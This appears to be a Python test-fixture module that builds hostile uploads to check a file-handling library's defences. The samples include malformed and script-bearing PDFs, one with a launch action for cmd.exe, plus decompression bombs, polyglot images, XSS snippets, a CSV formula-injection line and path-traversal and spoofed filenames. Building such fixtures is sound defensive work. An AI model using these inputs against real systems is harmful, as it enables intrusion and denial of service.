"""Malicious PDF files, images, foreign kinds and names of RELIABILITY.md R14."""

import random

from artel.files.tests import building as b
from artel.files.tests.hostile import SAFE, add, patched, zeros
from artel.files.tests.hostile_office import WORD_MAIN, as_type

# --- PDF ------------------------------------------------------------------------------------------------------------

add(
    "a loop of cross-references",
    "план.pdf",
    lambda: b.pdf(trailer=b"/Prev 15") + b"trailer << /Prev 15 >>\nstartxref\n15\n%%EOF",
    "pdf_xref_loop",
)
add(
    "cross-references that begin nowhere",
    "план.pdf",
    lambda: b.pdf() + b"\nstartxref\n99999999\n%%EOF",
    "pdf_xref_loop",
)
add("a script", "план.pdf", lambda: b.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf_active")
add("a script by its short name", "план.pdf", lambda: b.pdf(b"<< /JS (app.alert(1)) >>"), "pdf_active")
add("a script with a masked name", "план.pdf", lambda: b.pdf(b"<< /J#61v#61Script (x) /#4a#53 (x) >>"), "pdf_active")
add(
    "a script in an object stream",
    "план.pdf",
    lambda: b.pdf(b.stream(b"9 0 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm /N 1 /First 4 ")),
    "pdf_active",
)
add(
    "a short script in an object stream",
    "план.pdf",
    lambda: b.pdf(b.stream(b"9 0 << /JS (x) >>", b"/Type /ObjStm /N 1 /First 4 ")),
    "pdf_active",
)
add("a program to launch", "план.pdf", lambda: b.pdf(root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_active")
add("an embedded file", "план.pdf", lambda: b.pdf(b.stream(b"MZ", b"/Type /EmbeddedFile ")), "pdf_active")
add("a form that sends itself", "план.pdf", lambda: b.pdf(b"<< /S /SubmitForm /F (http://192.0.2.1) >>"), "pdf_active")
add("a form of the XFA kind", "план.pdf", lambda: b.pdf(root=b"/AcroForm << /XFA 6 0 R >>"), "pdf_active")
add(
    "filters upon filters",
    "план.pdf",
    lambda: b.pdf(b"<< /Length 3 /Filter [/FlateDecode /FlateDecode /FlateDecode] >>\nstream\nabc\nendstream"),
    "pdf_filters",
)
add(
    "an object stream behind two filters",
    "план.pdf",
    lambda: b.pdf(b"<< /Type /ObjStm /Length 3 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\nabc\nendstream"),
    "pdf_filters",
)
add(
    "a bomb in a stream",
    "план.pdf",
    lambda: b.pdf(b"<< /Length 1 /Filter /FlateDecode >>\nstream\n" + b"\x78\xda" + zeros(120) + b"\nendstream"),
    "pdf_bomb",
)
add(
    "a million pages that are one",
    "план.pdf",
    lambda: b.pdf(pages=b"/Kids [" + b"3 0 R " * 1_000_000 + b"] /Count 1000000"),
    "pdf_pages",
    "pdf_page_tree",
)
add(
    "a tree of pages that doubles",
    "план.pdf",
    lambda: b.pdf(
        *(b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 4 >>" % (n + 1, n + 1) for n in range(6, 40)),
        pages=b"/Kids [6 0 R] /Count 9",
    ),
    "pdf_page_tree",
    "pdf_pages",
)
add(
    "a tree of pages that bites its tail",
    "план.pdf",
    lambda: b.pdf(pages=b"/Kids [2 0 R] /Count 1"),
    SAFE,
    "pdf_page_tree",
    "reader",
)
add(
    "six hundred pages",
    "план.pdf",
    lambda: b.pdf(*([b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"] * 600)),
    "pdf_pages",
)
add(
    "a locked file",
    "план.pdf",
    lambda: b.pdf(b"<< /Filter /Standard /V 4 >>", trailer=b"/Encrypt 6 0 R"),
    "pdf_encrypted",
)
add("brackets upon brackets", "план.pdf", lambda: b.pdf(b"[" * 200_000), "pdf_nesting")
add("a file cut short", "план.pdf", lambda: b.pdf()[:-60], "pdf_tail")
add(
    "something before the header", "план.pdf", lambda: b"\n\n" + b.pdf(), SAFE, "control", "encoding", "disguise", "nul"
)
add("an archive in the tail", "план.pdf", lambda: b.pdf() + b.docx() + b"startxref\n1\n%%EOF", "polyglot")
add(
    "a header and nothing else",
    "план.pdf",
    lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF",
    SAFE,
    "pdf_xref_loop",
    "reader",
    "failed",
)

# --- images ---------------------------------------------------------------------------------------------------------


def bare_png(width: int, height: int) -> bytes:
    return b.png(width, height, pixels=b"\0")


add("a PNG of 65,535 by 65,535", "снимок.png", lambda: bare_png(65_535, 65_535), "pixels")
add("a PNG of 2^31 by 1", "снимок.png", lambda: bare_png(2**31 - 1, 1), "pixels")
add("more pixels than the header says", "снимок.png", lambda: b.png(8, 8, pixels=bytes(50_000_000)), "png_flood")
add("fewer pixels than the header says", "снимок.png", lambda: b.png(5_000, 5_000, pixels=bytes(100)), "png_pixels")
add(
    "a bomb in a text chunk",
    "снимок.png",
    lambda: b.png(extra=b.chunk(b"zTXt", b"a\0\0" + bytes(5_000_000))),
    "png_hidden",
)
add("an archive after the picture", "снимок.png", lambda: b.png(tail=b.docx()), "polyglot")
add("an archive inside the picture", "снимок.png", lambda: b.png(extra=b.chunk(b"prVt", b.docx())), "png_hidden")
add(
    "a page inside the picture",
    "снимок.png",
    lambda: b.png(extra=b.chunk(b"tEXt", b"x\0<script>alert(1)</script>")),
    "png_hidden",
)
add("an animation", "снимок.png", lambda: b.png(extra=b.chunk(b"acTL", bytes(8))), "png_animated")
add("a picture with a broken sum", "снимок.png", lambda: patched(b.png(), b"IDAT", b"IDAU"), "png_crc")
add(
    "SVG called PNG",
    "снимок.png",
    lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "markup",
)
add("a GIF called PNG", "снимок.png", lambda: b"GIF89a" + bytes(100), "gif")
add("a JPEG of 65,500 by 65,500", "фото.jpg", lambda: b.jpeg(65_500, 65_500), "pixels")
add("a JPEG that lies about its size", "фото.jpg", lambda: b.jpeg(6_000, 6_000), SAFE)
add("an archive after the JPEG", "фото.jpg", lambda: b.jpeg(tail=b.docx()), "polyglot")
add("a page in the comment of a JPEG", "фото.jpg", lambda: b.jpeg(comment=b"<script>alert(1)</script>"), "polyglot")
add("a JPEG cut short", "фото.jpg", lambda: b.jpeg()[:200], "jpeg_markers", "jpeg_end")

# --- other kinds ----------------------------------------------------------------------------------------------------


def ole(*streams: str) -> bytes:
    names = b"".join(name.encode("utf-16-le").ljust(64, b"\0") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names + bytes(500)


ODT = "application/vnd.oasis.opendocument.text"
add("a .doc", "план.doc", lambda: ole("Root Entry", "WordDocument"), "doc")
add("an .xls called .xlsx", "план.xlsx", lambda: ole("Root Entry", "Workbook"), "xls")
add("a locked .docx", "план.docx", lambda: ole("Root Entry", "EncryptedPackage"), "ole_encrypted")
add("an .odt", "план.odt", lambda: b.zipped({"mimetype": ODT, "content.xml": "<x/>"}), "odt")
add("an .ods called .xlsx", "план.xlsx", lambda: b.zipped({"mimetype": ODT.replace("text", "spreadsheet")}), "ods")
add("an .rtf called .docx", "план.docx", lambda: b"{\\rtf1 {\\object}}", "rtf")
add("a page called .docx", "план.docx", lambda: b"<html><script>alert(1)</script></html>", "markup")
add("text called .docx", "план.docx", lambda: "просто текст".encode(), "disguise")
add("a bare archive", "план.zip", lambda: b.zipped({"план.txt": "x"}), "zip")
add("an empty archive", "план.docx", lambda: b.zipped({}), "zip_empty")
add("a program", "план.exe", lambda: b"MZ" + bytes(1000), "program")
add("nothing at all", "план.docx", lambda: b"", "empty")
add("NUL bytes in text", "план.txt", lambda: b"plan\0plan", "nul")
add("control characters in text", "план.txt", lambda: b"plan\x1b[31mplan", "control")
add(
    "noise called text",
    "план.txt",
    lambda: bytes(random.Random(4).choices(range(160, 256), k=5000)),
    "encoding",
    "control",
)
add("a line of a million characters", "план.txt", lambda: b"x" * 1_000_000, "text_lines")
add("a million lines", "план.txt", lambda: b"x\n" * 1_000_000, "text_lines")
add("six megabytes of text", "план.txt", lambda: b"word word\n" * 600_000, "text_size")
add("a CSV of 5,000 columns", "план.csv", lambda: (b";" * 5_000 + b"\n") * 20, "text_cells")
add("a CSV that would run a program", "план.csv", lambda: b"=cmd|'/c calc'!A0;2\n", SAFE)
add(
    "a presentation",
    "план.pptx",
    lambda: as_type(b.docx_parts(), WORD_MAIN, f"{b.CONTENT_TYPES}.presentationml.presentation.main+xml"),
    "presentation",
)

# Names that a careless program would follow; each stands on an honest document.
NAMES: dict[str, str] = {
    "../../etc/passwd.docx": "passwd.docx",
    "C:\\Windows\\план.docx": "план.docx",
    "план\0.docx": "план.docx",
    "план\u202excod.exe": "планxcod.docx",
    "я" * 300 + ".docx": "я" * 145 + ".docx",
    "CON.docx": "_CON.docx",
    "con.план.docx": "_con.план.docx",
    ".htaccess": "htaccess.docx",
    "план\r\nContent-Type: text/html.docx": "html.docx",
    "plаn.dосx": "plаn.docx",
    "й.docx".replace("й", "и\u0306"): "й.docx",
    "план.docx.exe": "план.docx",
    "": "файл.docx",
    "   ...  ": "файл.docx",
    "план <script>.docx": "план _script_.docx",
}
